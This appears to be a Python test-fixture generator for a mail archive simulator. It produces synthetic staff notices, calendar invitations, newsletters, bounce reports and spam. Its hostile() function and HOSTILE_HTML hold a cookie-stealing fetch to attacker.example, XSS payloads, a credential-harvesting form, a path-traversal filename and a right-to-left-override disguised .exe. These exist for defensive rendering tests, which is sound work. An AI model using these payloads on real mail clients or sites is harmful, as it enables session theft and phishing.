"""Single letters that are part of nobody's conversation: notices to all, invitations, newsletters, bounces, spam.

Also the one hostile message: script, remote pictures, a tracking pixel, a form, odd MIME. A reader must show it harmlessly.
"""

# ruff: noqa: E501  (a seeded generator; texts)

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta
from random import Random

from mailkeep.simulator import compose
from mailkeep.simulator.attachments import Attachment, brochure
from mailkeep.simulator.mailers import Written
from mailkeep.simulator.people import COLLEAGUES, DOMAIN, PROJECTS, Person, colleague
from mailkeep.simulator.threads import draw_message_id

HANDBOOK = brochure("Employee handbook", "Employee handbook, edition 7", 7)
NOTICES: tuple[tuple[str, str, str, Attachment | None], ...] = (
    ("priya.raman", "Employee handbook, new edition", "Dear all,\n\nthe seventh edition of our handbook is attached. What is new: parental leave (page 12), working from another country for up to 20 days (page 15), and the cycle scheme.\n\nPlease read page 15 before you book anything.", HANDBOOK),
    ("priya.raman", "Welcome to our three new colleagues", "Dear all,\n\non Monday three new colleagues start: one in Augsburg, one in Leeds and one in Osaka. Please take them to lunch, and show them where the good coffee is.", None),
    ("ingrid.halden", "Results of the quarter", "Dear colleagues,\n\nwe closed the quarter with orders up by 11 % and, for the first time, more gateways sold than meters. Thank you! The numbers will be presented on Thursday at 10:00 CET; the recording goes into the usual place.", None),
    ("tom.whitfield", "Planned maintenance on Saturday", "Hello all,\n\nthe ticket system will be down on Saturday from 06:00 to 09:00 UTC. Mail and telephones are not affected.", None),
    ("grace.oconnor", "Reminder: gifts and invitations", "Dear all,\n\nas every year before the holidays: gifts worth more than €35 are to be declined or declared. The form takes two minutes. When in doubt, ask me first, not after.", None),
    ("etienne.moreau", "Travel expenses: please hand in by the 25th", "Bonjour, hello, hallo,\n\nwhat reaches us by the 25th is paid with this month's salary, what comes later with the next. Photos of receipts are fine as long as one can read them.\n\nMerci !", None),
)  # fmt: skip
NEWSLETTERS = (
    ("news@metering-weekly.example", "Metering Weekly", "Metering Weekly {week}: {topic}", ("Remote reading becomes mandatory", "What heat networks cost", "Ultrasonic or electromagnetic?", "Three cities, three tariffs")),
    ("newsletter@fachverband-waerme.example", "Fachverband Wärme", "Newsletter {week}: {topic}", ("Neue Eichordnung", "Förderung für Wärmenetze verlängert", "Termine im Herbst")),
    ("lettre@reseaux-chaleur.example", "Réseaux de chaleur", "La lettre n° {week} : {topic}", ("Décret tertiaire, mode d'emploi", "Cinq villes racontent", "Appel à projets")),
)  # fmt: skip
MEETINGS = ("Project review: {project}", "Weekly sales call", "Design review: {project}", "One to one", "Budget talk")
BOUNCE_HOST = f"mail.{DOMAIN}"


def notice(rng: Random, sent: datetime) -> Written:
    """From one colleague to everybody."""
    local, subject, text, file = rng.choice(NOTICES)
    author = colleague(f"{local}@{DOMAIN}")
    readers = tuple(p for p in COLLEAGUES if p is not author)
    files = (file,) if file else ()
    return Written(
        author,
        readers,
        subject,
        text,
        "en",
        sent,
        draw_message_id(rng, author),
        attachments=files,
        regards="Best regards",
    )


def invitation(rng: Random, organiser: Person, sent: datetime) -> Written:
    """A meeting request to two or three colleagues."""
    readers = tuple(rng.sample([p for p in COLLEAGUES if p is not organiser], rng.randint(2, 3)))
    subject = rng.choice(MEETINGS).format(project=rng.choice(PROJECTS).name)
    start = (sent + timedelta(days=rng.randint(1, 12))).replace(
        hour=rng.randint(8, 15), minute=rng.choice([0, 30]), second=0
    )
    text = f"When: {start:%A, %d %B %Y, %H:%M} UTC, one hour\nWhere: Online\n\nPlease accept or propose another time."
    uid = f"{rng.getrandbits(96):024X}"
    return Written(
        replace(organiser, mailer="outlook"),
        readers,
        subject,
        text,
        "en",
        sent,
        draw_message_id(rng, organiser),
        regards="Best regards",
        calendar=_meeting(uid, subject, start, sent, organiser, readers),
    )


def _meeting(
    uid: str, subject: str, start: datetime, sent: datetime, organiser: Person, readers: tuple[Person, ...]
) -> str:
    guests = [f"ATTENDEE;CN={p.latin};PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{p.address}" for p in readers]
    lines = [
        "BEGIN:VCALENDAR", "PRODID:-//Halden & Moreau//Calendar//EN", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT",
        f"UID:{uid}", f"SUMMARY:{subject}", f"DTSTAMP:{sent:%Y%m%dT%H%M%SZ}", f"DTSTART:{start:%Y%m%dT%H%M%SZ}",
        f"DTEND:{start + timedelta(hours=1):%Y%m%dT%H%M%SZ}", f"ORGANIZER;CN={organiser.latin}:mailto:{organiser.address}",
        *guests, "LOCATION:Online", "SEQUENCE:0", "STATUS:CONFIRMED", "END:VEVENT", "END:VCALENDAR",
    ]  # fmt: skip
    return "\r\n".join(_folded(line) for line in lines) + "\r\n"


def _folded(line: str) -> str:
    """RFC 5545: at most 75 octets a line, a blank before the rest. Cut between characters."""
    pieces, piece = [], ""
    for character in line:
        if len((piece + character).encode()) > 73:
            pieces.append(piece)
            piece = " "
        piece += character
    return "\r\n".join([*pieces, piece])


def newsletter(rng: Random, reader: Person, sent: datetime) -> tuple[str, bytes]:
    """(Message-ID, bytes) of an issue; the same issue to two readers differs in its heads and links only."""
    address, name, subject, topics = rng.choice(NEWSLETTERS)
    week = f"{sent:%V/%Y}"
    title = subject.format(week=week, topic=rng.choice(topics))
    link = f"https://{address.partition('@')[2]}/{sent:%Y%V}/{rng.getrandbits(40):x}"
    items = "".join(
        f'<tr><td style="padding:12px"><h2>{topic}</h2><p>Read what this means for networks of your size, with figures '
        f'from four operators.</p><p><a href="{link}/{n}">Read on</a></p></td></tr>'
        for n, topic in enumerate(topics, 1)
    )
    html = f'<html><body style="background:#f4f4f0"><table width="600" align="center" bgcolor="#ffffff"><tr><td><h1>{name}</h1></td></tr>{items}<tr><td><small>You receive this because you subscribed. <a href="{link}/off">Unsubscribe</a></small></td></tr></table><img src="{link}/open.gif" width="1" height="1" alt=""></body></html>'
    plain = f"{name}\n\n" + "\n".join(f"* {topic}\n  {link}/{n}\n" for n, topic in enumerate(topics, 1))
    message_id = f"<{sent:%Y%m%d%H%M%S}.{rng.getrandbits(48):012x}@{address.partition('@')[2]}>"
    headers = [
        ("Return-Path", f"<bounce+{rng.getrandbits(32):08x}@{address.partition('@')[2]}>"),
        ("From", compose.mailbox(name, address)),
        ("To", reader.address),
        ("Subject", compose.encoded(title)),
        ("Date", compose.date(sent)),
        ("Message-ID", message_id),
        ("List-Unsubscribe", f"<{link}/off>"),
        ("Precedence", "bulk"),
    ]
    parts = [compose.text(plain), compose.text(html, "html")]
    return message_id, compose.compose(headers, compose.multi("alternative", f"=_nl_{rng.getrandbits(64):016x}", parts))


def bounce(rng: Random, sent: Written, when: datetime) -> tuple[str, bytes]:
    """(Message-ID, bytes) of a delivery report (RFC 3464) on a letter to an address with a slip in it."""
    wrong = f"{sent.to[0].address.partition('@')[0]}s@{sent.to[0].address.partition('@')[2]}"
    message_id = f"<{when:%Y%m%d%H%M%S}.{rng.getrandbits(32):08X}@{BOUNCE_HOST}>"
    said = f"This is the mail system at host {BOUNCE_HOST}.\n\nYour message could not be delivered to\n\n    <{wrong}>: host said: 550 5.1.1 User unknown\n\nIt will not be tried again.\n"
    status = f"Reporting-MTA: dns; {BOUNCE_HOST}\n\nFinal-Recipient: rfc822; {wrong}\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n"
    original = f"From: {sent.author.address}\nTo: {wrong}\nSubject: {compose.encoded(sent.subject)}\nMessage-ID: {sent.message_id}\n"
    report = compose.Part(("Content-Type: message/delivery-status",), status.replace("\n", "\r\n").encode())
    heads = compose.Part(("Content-Type: text/rfc822-headers",), original.replace("\n", "\r\n").encode())
    part = compose.multi(
        "report",
        f"{rng.getrandbits(64):016X}/{BOUNCE_HOST}",
        [compose.text(said), report, heads],
        " report-type=delivery-status;",
    )
    headers = [
        ("Return-Path", "<>"),
        ("From", f"Mail Delivery System <MAILER-DAEMON@{BOUNCE_HOST}>"),
        ("To", sent.author.address),
        ("Subject", "Undelivered Mail Returned to Sender"),
        ("Date", compose.date(when)),
        ("Message-ID", message_id),
        ("Auto-Submitted", "auto-replied"),
    ]
    return message_id, compose.compose(headers, part)


SPAM = (
    ("Your parcel is waiting", "We could not deliver your parcel. Confirm the address and pay the fee of 1.99 within 24 hours."),
    ("Re: payment details changed", "Hello, please note that our bank account has changed. Kindly use the new one for all open invoices."),
    ("Mailbox almost full", "Your mailbox has reached 98 % of its quota. Sign in to keep receiving messages."),
)  # fmt: skip


def spam(rng: Random, reader: Person, sent: datetime) -> tuple[str, bytes]:
    subject, text = rng.choice(SPAM)
    host = f"{rng.choice(['parcel', 'secure', 'mail'])}-{rng.getrandbits(24):06x}.example"
    message_id = f"<{rng.getrandbits(64):016x}@{host}>"
    headers = [
        ("Received", f"from unknown (HELO {host}) [203.0.113.{rng.randint(2, 250)}]; {compose.date(sent)}"),
        ("From", compose.mailbox("Customer Service", f"info@{host}")),
        ("To", reader.address),
        ("Subject", subject),
        ("Date", compose.date(sent)),
        ("Message-ID", message_id),
        ("X-Spam-Flag", "YES"),
    ]
    return message_id, compose.compose(headers, compose.text(text + "\n", transfer="7bit"))


HOSTILE_HTML = """<html><head><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/go">
<script>fetch('https://attacker.example/steal?c='+document.cookie)</script>
<link rel="stylesheet" href="https://attacker.example/s.css"><style>@import url(https://attacker.example/i.css);body{background:url(https://attacker.example/b.png)}</style></head>
<body onload="location='https://attacker.example/onload'"><h1>Invoice overdue</h1><p>Please see the invoice below and <a href="javascript:alert(document.domain)">pay now</a>.</p>
<img src="https://attacker.example/logo.png" onerror="alert(1)"><img src="https://attacker.example/pixel.gif?u=tom" width="1" height="1">
<svg onload="alert(2)"><script>alert(3)</script></svg><iframe src="https://attacker.example/frame"></iframe>
<form action="https://attacker.example/login"><input name="password" type="password" autofocus onfocus="alert(4)"><button>Sign in</button></form>
<video src="https://attacker.example/v.mp4" autoplay></video><object data="https://attacker.example/o.swf"></object><math><mtext><img src=x onerror=alert(5)></mtext></math>
<p>Kind regards,<br>Accounts</p></body></html>"""  # fmt: skip


def hostile(sent: datetime) -> tuple[str, bytes]:
    """(Message-ID, bytes): what a reading pane has to withstand. Odd on purpose: a boundary with blanks, a name that climbs
    folders, two Subjects, a part without an end, a header line of its own making."""
    message_id = "<overdue.4711@attacker.example>"
    body = "\r\n".join(
        [
            "--odd boundary",
            'Content-Type: text/html; charset="utf-8"; charset="x-unknown"',
            "",
            HOSTILE_HTML.replace("\n", "\r\n"),
            "--odd boundary",
            'Content-Type: text/html; name="../../../etc/invoice.html"',
            'Content-Disposition: attachment; filename="..\\..\\invoice\u202elmth.exe"',
            "Content-Transfer-Encoding: base64",
            "",
            "PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg",
            "--odd boundary",
            "Content-Type: message/rfc822",
            "",
            "Subject: <img src=x onerror=alert(7)>",
            "",
            "never closed",
        ]
    )
    heads = "\r\n".join(
        [
            f"Received: from attacker.example ([203.0.113.66]) by mail.{DOMAIN}; {compose.date(sent)}",
            'From: "Accounts <script>alert(8)</script>" <billing@attacker.example>',
            f"To: Tom Whitfield <tom.whitfield@{DOMAIN}>",
            "Subject: URGENT: invoice overdue <script>alert(9)</script>",
            "Subject: =?utf-8?B?" + "4oCuZmRwLmV4ZQ==" + "?=",
            f"Date: {compose.date(sent)}",
            f"Message-ID: {message_id}",
            "X-Empty:",
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="odd boundary"',
        ]
    )
    return message_id, f"{heads}\r\n\r\n{body}\r\n".encode()
